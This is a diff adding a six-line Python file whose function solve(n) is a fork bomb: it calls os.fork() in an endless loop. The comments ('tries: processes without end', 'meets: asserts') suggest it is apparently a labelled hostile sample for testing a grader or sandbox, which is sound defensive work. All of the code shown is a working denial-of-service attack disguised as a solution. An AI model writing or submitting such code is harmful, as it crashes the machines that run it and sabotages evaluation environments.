@@ -1,0 +1,6 @@
+# tries: processes without end
+# meets: asserts
+import os
+def solve(n):
+    while True:
+        os.fork()
